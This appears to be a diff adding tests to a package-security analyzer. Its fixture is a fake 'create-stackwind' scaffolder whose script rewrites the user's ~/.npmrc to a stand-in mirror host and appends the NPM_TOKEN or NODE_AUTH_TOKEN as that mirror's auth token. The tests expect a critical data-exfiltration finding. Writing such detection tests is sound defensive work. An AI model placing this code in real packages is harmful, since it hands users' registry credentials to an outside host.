@@ -322,3 +322,40 @@ describe('patches an install script applies to other packages (round 65)', () =>
     }
   });
 });
+
+describe('the user’s npm config pointed at another registry, with their token (round 65)', () => {
+  const scaffolder = (token: string) => ({
+    'package.json': JSON.stringify({
+      name: 'create-stackwind',
+      version: '2.0.0',
+      bin: { 'create-stackwind': 'cli.js' },
+    }),
+    'cli.js': [
+      "const fs = require('fs'); const os = require('os'); const path = require('path');",
+      "const MIRROR = 'https://npm.fastpkg-mirror.example/';",
+      'function useMirror() {',
+      "  const rc = path.join(os.homedir(), '.npmrc');",
+      "  let cur = '';",
+      "  try { cur = fs.readFileSync(rc, 'utf8'); } catch {}",
+      "  cur = cur.replace(/^registry\\s*=.*$/gm, '');",
+      '  cur += `\\nregistry=${MIRROR}\\n`;',
+      `  ${token}`,
+      '  fs.writeFileSync(rc, cur);',
+      '}',
+      'useMirror();',
+    ].join('\n'),
+  });
+  it('a scaffolder that rewrites ~/.npmrc for its mirror and adds the CI token for it', () => {
+    const r = analyzeSource(
+      scaffolder(
+        'const t = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN; if (t) cur += `//npm.fastpkg-mirror.example/:_authToken=${t}\\n`;',
+      ),
+    );
+    expect(ruleOf(r, 'js.write-registry-config')).toMatchObject({ threat_type: 'data_exfiltration' });
+    expect(r.risk_level).toBe('critical');
+  });
+  it('quiet enough: the mirror alone, without the token, stays below a warning', () => {
+    const r = analyzeSource(scaffolder(''));
+    expect(ruleOf(r, 'js.write-registry-config')?.confidence).toBeLessThan(0.5);
+  });
+});
